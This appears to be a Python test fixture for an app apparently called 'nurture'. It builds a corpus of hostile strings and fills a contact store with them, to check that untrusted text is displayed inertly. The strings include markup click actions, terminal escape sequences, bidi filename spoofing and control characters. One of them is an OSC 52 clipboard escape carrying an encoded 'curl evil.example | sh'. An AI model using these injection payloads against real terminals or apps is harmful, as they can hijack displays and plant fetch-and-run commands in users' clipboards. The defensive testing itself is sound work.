"""A corpus of hostile strings, as an attacker would put them in a vCard, a CSV or a feed.

Used by the CLI and app tests of untrusted text (``test_untrusted_text_*.py``):
every sink must show these as text, never act on them, never crash.
"""

from __future__ import annotations

import base64

OSC52 = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07"

# (name, string). The name says what each one tries.
HOSTILE: list[tuple[str, str]] = [
    ("markup-bold", "[b]Bold[/b] Baker"),
    ("markup-click-quit", "[@click=app.quit]Read more[/]"),
    ("markup-click-screenshot", "[@click=app.screenshot('x.svg','/tmp')]Read more[/]"),
    ("markup-close", "Aaron [/] Smith"),
    ("markup-close-open", "Unclosed [/"),
    ("markup-close-x", "Stray [/x] tag"),
    ("markup-link", "Evil [link=https://evil.example]link"),
    ("markup-video", "[Video] How we sail"),
    ("markup-solved", "[SOLVED] Printer works"),
    ("markup-subreddit", "[/r/python] weekly thread"),
    ("ansi-clear", "Clear\x1b[2J\x1b[Hscreen"),
    ("osc-title", "Title\x1b]0;pwned title\x07set"),
    ("osc8-link", "\x1b]8;;https://evil.example\x1b\\Click me\x1b]8;;\x1b\\"),
    ("osc52-clipboard", f"Clip{OSC52}board"),
    ("c1-csi", "C1\x9b31mred\x9b0m"),
    ("c1-osc", "C1\x9d0;title\x9cend"),
    ("bidi-override", "Invoice \u202egnp.exe"),
    ("bidi-isolate", "Iso\u2066late\u2069d"),
    ("nul", "Nul\x00byte"),
    ("bel-del-bs", "Bell\x07del\x7fback\x08space"),
    ("carriage-return", "Good name\rEvil name"),
    ("newline", "Two\nlines"),
    ("huge", "Huge " + "A" * 100_000 + "\x1b[2J"),
]

STRINGS = [s for _, s in HOSTILE]

# Written out here, not taken from nurture.safetext: the oracle must not share the code.
BIDI_CONTROLS = {*range(0x202A, 0x202F), *range(0x2066, 0x206A)}
FORBIDDEN = {*range(0x00, 0x20), 0x7F, *range(0x80, 0xA0), *BIDI_CONTROLS} - {0x0A, 0x09}


def forbidden_in(text: str) -> list[str]:
    """The control characters in ``text`` a terminal would act on (newline and tab allowed)."""
    return sorted({f"U+{ord(ch):04X}" for ch in text if ord(ch) in FORBIDDEN})


def marker(value: str) -> str:
    """A short, markup- and control-free piece of ``value`` to look for on screen."""
    words = [w for w in value.replace("\x1b", " ").split() if w.isalnum()]
    return words[0] if words else value[:4]


def fill_book(path, today) -> dict[str, list[str]]:  # type: ignore[no-untyped-def]
    """Write a book where every field that reaches a screen holds a hostile string.

    One contact, one timeline entry with a follow-up, one news item and one feed
    per string; returns the ids by kind.
    """
    import pendulum

    from nurture.model import Contact, Feed, FollowUp, Interaction, KeyDate, NewsItem
    from nurture.store import open_store

    ids: dict[str, list[str]] = {"contacts": [], "news": [], "feeds": []}
    long_ago = pendulum.datetime(today.year, today.month, today.day, 12).subtract(days=60)
    with open_store(path) as store, store.batch():
        for n, (name, value) in enumerate(HOSTILE):
            contact = Contact.new(value, company=value, title=value, notes=value,
                                  how_we_met=value, nickname=value, interests=["sailing"],
                                  cadence_days=14,
                                  key_dates=[KeyDate(value, today.month, today.day)])
            store.save_contact(contact)
            ids["contacts"].append(contact.id)
            entry = Interaction.new([contact.id], "call", value, at=long_ago,
                                    follow_ups=[FollowUp(value, today)])
            store.save_interaction(entry)
            item = NewsItem.new(value, summary=value, tags=["sailing"], company=value,
                                url=f"https://news.example/{n}")
            store.save_news_item(item)
            ids["news"].append(item.id)
            feed = Feed(url=f"https://feeds.example/{name}", tags=["sailing"], company=value,
                        title=value, last_error=value)
            store.save_feed(feed)
            ids["feeds"].append(feed.url)
    return ids
